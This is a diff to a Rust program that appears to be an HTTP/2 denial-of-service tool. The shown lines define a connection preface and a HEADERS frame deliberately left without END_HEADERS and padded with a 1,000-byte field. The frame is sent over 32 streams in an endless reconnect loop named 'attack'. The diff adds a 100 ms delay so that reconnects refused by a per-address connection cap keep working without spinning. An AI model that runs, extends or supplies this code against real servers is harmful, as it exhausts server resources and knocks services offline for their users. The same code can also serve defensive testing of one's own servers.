@@ -33,6 +33,8 @@ use tokio_rustls::{
 };
 
 const STREAMS: usize = 32;
+/// How long a connection that has ended waits before the next: those over the cap of the address would spin.
+const AGAIN: Duration = Duration::from_millis(100);
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
 /// The head of a GET that goes on with a field of 1,000 bytes (HEADERS on stream 1, without END_HEADERS).
 const BEGIN: &[u8] = b"\0\0\x0c\x01\x01\0\0\0\x01\x82\x86\x84\x01\x01h\0\x01x\x7f\xe9\x06";
@@ -81,6 +83,7 @@ async fn main() -> Outcome {
             loop {
                 // However it ended: it begins again.
                 let _ = attack.connection(count).await;
+                sleep(AGAIN).await;
             }
         });
     }
